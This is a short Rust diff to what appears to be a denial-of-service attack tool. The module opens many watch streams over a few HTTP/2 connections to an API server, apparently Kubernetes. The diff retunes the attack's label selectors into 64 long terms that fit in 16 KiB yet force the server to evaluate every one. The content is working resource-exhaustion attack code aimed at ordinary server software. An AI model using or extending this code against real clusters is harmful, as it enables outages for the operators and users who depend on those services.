@@ -1,6 +1,5 @@
 //! Many watches on few HTTP/2 connections.
 
-use std::fmt::Write;
 use std::sync::Arc;
 use std::sync::atomic::Ordering;
 
@@ -15,8 +14,9 @@ use super::{Attack, AttackClient, AttackState, BACK_AFTER, OpenConnection, count
 use crate::http2::Sender;
 
 const STREAMS: usize = 1_000;
-/// Length of a selector, bytes.
-const SELECTOR_LEN: usize = 50_000;
+/// As many terms as memory evaluates, so long that they just fit in 16 KiB: longer selectors are the API server's work.
+const TERMS: usize = 64;
+const KEY_LEN: usize = 250;
 /// A receive window for all streams of a connection.
 const WINDOW_LEN: u32 = 1 << 30;
 
@@ -104,12 +104,11 @@ async fn watch_once(state: &AttackState, mut sender: Sender, watch: &AttackClien
 
 /// Terms that no pod contradicts, so that the server evaluates all of them; different for each watch.
 fn selector(number: usize) -> String {
-    let mut text = format!("!a{number}");
-    for term in 0.. {
-        if text.len() >= SELECTOR_LEN {
-            break;
-        }
-        let _ = write!(text, ",!b{term:x}");
-    }
-    text
+    let term = |at| {
+        let name = format!("w{number}-t{at}");
+        // A prefix is a DNS subdomain.
+        let prefix = "a.".repeat((KEY_LEN - name.len()) / 2);
+        format!("!{prefix}a/{name}")
+    };
+    (0..TERMS).map(term).collect::<Vec<_>>().join(",")
 }
